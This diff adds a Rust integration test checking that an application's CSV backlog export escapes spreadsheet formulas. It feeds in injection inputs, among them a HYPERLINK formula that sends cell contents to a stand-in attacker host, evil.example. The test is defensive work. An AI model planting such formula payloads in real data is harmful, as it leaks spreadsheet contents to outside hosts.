@@ -759,3 +759,71 @@ async fn finished_dossiers_past_the_horizon_are_folded_into_sums_with_the_same_n
         "b and c overdue on 2025-11-25: {overdue:?}"
     );
 }
+
+#[tokio::test]
+async fn csv_exports_carry_no_spreadsheet_formulas() {
+    let app = spawn_app(AppOptions::default()).await.unwrap();
+    let ids = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
+        "@SUM(1+1)",
+        "+1+1",
+        "-1+1",
+        "D-plain",
+    ];
+    let mut lines: Vec<String> = ids
+        .iter()
+        .enumerate()
+        .map(|(i, id)| {
+            let mut v: Value = serde_json::from_str(&accepted_event(
+                &format!("f{i}"),
+                "2025-11-20T08:00:00+07:00",
+                "00070",
+                "online",
+            ))
+            .unwrap();
+            v["dossier_id"] = Value::from(*id);
+            v.to_string()
+        })
+        .collect();
+    // Not JSON: rejected, and its raw text is exported below.
+    lines.push("=1+1".into());
+    let (status, report) = app.ingest(&lines.join("\n")).await.unwrap();
+    assert_eq!(
+        (status, report["accepted"].as_u64()),
+        (200, Some(5)),
+        "{report}"
+    );
+    app.settle().await.unwrap();
+
+    let csv = app
+        .get_as(app.cookie.as_deref(), "/api/v1/units/01/backlog?format=csv")
+        .await
+        .unwrap();
+    assert_eq!(csv.status, 200, "{}", csv.body);
+    for want in [
+        "\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\",00070,",
+        "\n'@SUM(1+1),00070,",
+        "\n'+1+1,00070,",
+        "\n'-1+1,00070,",
+        "\nD-plain,00070,",
+    ] {
+        assert!(csv.body.contains(want), "{want:?} not in\n{}", csv.body);
+    }
+    for line in csv.body.lines().skip(1) {
+        assert!(!line.starts_with(['=', '+', '-', '@']), "{line}");
+        // The age stays a number.
+        let age = line.rsplit(',').next().unwrap();
+        assert!(age.parse::<f64>().is_ok(), "age {age:?} in {line}");
+    }
+
+    let out = e2e::govpulse(&[
+        "rejected",
+        "export",
+        "--format",
+        "csv",
+        "--data",
+        app.data_dir.to_str().unwrap(),
+    ])
+    .unwrap();
+    assert!(out.lines().any(|l| l.ends_with(",'=1+1")), "{out}");
+}
